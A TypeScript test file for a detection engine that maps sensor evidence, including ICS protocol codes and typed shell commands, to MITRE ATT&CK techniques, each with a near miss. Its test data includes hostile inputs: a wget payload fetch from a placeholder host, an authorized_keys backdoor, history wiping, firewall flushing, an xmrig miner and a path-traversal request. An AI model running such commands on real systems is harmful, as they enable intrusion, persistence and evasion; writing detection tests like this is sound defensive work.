// Each ATT&CK technique that the rules use, with evidence that shows it and a near miss that does not.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { EVENT } from '../indicator/observation.test-support.ts';
import type { SensorEvent } from '../indicator/sensor-event.ts';
import { ATTACK_TECHNIQUES } from './attack-technique.ts';
import { decodeBehaviours } from './behaviour.ts';
import { behaviourRule } from './behaviour-rules.ts';

type Evidence = Readonly<Record<string, string>>;

const SSH = { sensorType: 'NETWORK', protocol: 'SSH' } as const;
const PLC = { sensorType: 'ICS', protocol: 'TELNET' } as const;
const FEED = { sensorType: 'UNSPECIFIED', protocol: 'UNSPECIFIED', sensorId: '' } as const;

const modbus = (code: string): Evidence => ({ 'modbus.function_code': code });
const dnp3 = (code: string): Evidence => ({ 'dnp3.function_code': code });
const s7 = (code: string): Evidence => ({ 's7.function_code': code });
const bacnet = (service: string): Evidence => ({ 'bacnet.service': service });
const typed = (input: string): Evidence => ({ 'command.input': input });
const LOGIN = { 'login.result': 'success' } as const;
const FACTORY = { ...LOGIN, 'login.default_credentials': 'true' } as const;

type Row = readonly [id: string, hit: Evidence, miss: Evidence, event?: Partial<SensorEvent>];

const TABLE: readonly Row[] = [
  ['T0801', s7('4'), s7('5')],
  ['T0809', dnp3('DELETE_FILE'), dnp3('CLOSE_FILE')],
  ['T0814', { ...modbus('8'), 'modbus.diagnostic_subfunction': '4' }, { 'frame.malformed': 'true' }],
  ['T0816', s7('0x29'), s7('0x28')],
  ['T0819', { 'exploit.cve': 'CVE-2015-5374' }, { 'exploit.cve': 'CVE-1' }, PLC],
  ['T0836', modbus('6'), modbus('5')],
  ['T0838', { 'atg.command': 'S60220' }, { 'atg.command': 'I20100' }],
  ['T0843', s7('0x1a'), s7('0x1d')],
  ['T0845', s7('0x1d'), s7('0x1a')],
  ['T0846', { connection: 'established' }, modbus('43')],
  ['T0858', s7('0x28'), s7('0x29')],
  ['T0859', LOGIN, { 'login.result': 'failed' }, PLC],
  ['T0861', modbus('1'), modbus('43')],
  ['T0878', bacnet('acknowledgeAlarm'), bacnet('getAlarmSummary')],
  ['T0881', dnp3('STOP_APPL'), dnp3('START_APPL')],
  ['T0886', LOGIN, LOGIN, PLC],
  ['T0888', { ...modbus('43'), 'modbus.mei_type': '14' }, { ...modbus('43'), 'modbus.mei_type': '13' }],
  ['T0889', dnp3('ACTIVATE_CONFIG'), dnp3('SAVE_CONFIG')],
  ['T1691.002', dnp3('DISABLE_UNSOLICITED'), dnp3('ENABLE_UNSOLICITED')],
  ['T1692.001', modbus('5'), modbus('1')],
  ['T1693.001', modbus('125'), modbus('124')],
  ['T1694.001', FACTORY, LOGIN, PLC],
  ['T1053.003', typed('echo x | crontab -'), typed('cat crontabs.txt'), SSH],
  ['T1059.004', typed('ls'), {}, SSH],
  ['T1070.003', typed('unset HISTFILE'), typed('echo history'), SSH],
  ['T1078', LOGIN, { 'login.result': 'failed' }, SSH],
  ['T1078.001', FACTORY, LOGIN, SSH],
  ['T1082', typed('uname -a'), typed('cat names'), SSH],
  ['T1090', { 'proxy.request': '192.0.2.1:80' }, { connection: 'established' }, SSH],
  ['T1098.004', typed('echo k >> .ssh/authorized_keys'), typed('cat keys'), SSH],
  ['T1105', typed('wget http://192.0.2.80/a'), typed('ls wgetrc.d'), SSH],
  ['T1110', { 'login.result': 'failed' }, { 'login.result': 'failed', 'login.tries': '3' }, SSH],
  ['T1110.001', { 'login.result': 'failed', 'login.tries': '3' }, { 'login.result': 'failed' }, SSH],
  ['T1190', { 'http.path': '/?x=../../etc/passwd' }, { 'http.path': '/index.html' }, SSH],
  ['T1222.002', typed('chmod 777 a'), typed('chmod 644 a'), SSH],
  ['T1496.001', typed('./xmrig -o pool'), typed('./miner'), SSH],
  ['T1562.004', typed('iptables -F'), typed('iptables -L'), SSH],
  ['T1595.001', { 'scan.type': 'ports' }, { 'scan.type': 'vulnerabilities' }, SSH],
  ['T1595.002', { 'scan.type': 'vulnerabilities' }, { 'scan.type': 'ports' }, SSH],
  ['T1602.001', { 'snmp.operation': 'walk' }, { 'snmp.operation': 'get' }, SSH],
  ['T1609', { 'http.path': '/exec/1a/start' }, { 'http.path': '/exec' }, SSH],
  ['T1610', { 'http.path': '/v1.41/containers/create' }, { 'http.path': '/containers/json' }, SSH],
  ['T1071', { 'alert.kind': 'command-and-control' }, { 'alert.kind': 'adware' }, FEED],
  ['T1090.003', { 'alert.kind': 'tor-exit' }, { 'alert.kind': 'proxy' }, FEED],
  ['T1566', { 'alert.kind': 'phishing' }, { 'alert.kind': 'malware' }, FEED],
];

function techniquesOf(evidence: Evidence, event: Partial<SensorEvent>): readonly string[] {
  const { behaviours } = decodeBehaviours({ ...EVENT, ...event, evidence });
  return behaviours.flatMap((code) => behaviourRule(code)?.techniques ?? []);
}

test('each technique has evidence that shows it, and a near miss', () => {
  const wrong = TABLE.filter(([id, hit, miss, event = {}]) => {
    // A remote session is one on a control system only.
    const missed = id === 'T0886' ? { ...event, sensorType: 'NETWORK' as const } : event;
    return !techniquesOf(hit, event).includes(id) || techniquesOf(miss, missed).includes(id);
  });
  assert.deepEqual(
    wrong.map(([id]) => id),
    [],
  );
});

test('the table is complete', () => {
  const shown = TABLE.map(([id]) => id).sort();
  assert.deepEqual(shown, ATTACK_TECHNIQUES.map(({ id }) => id).sort());
});
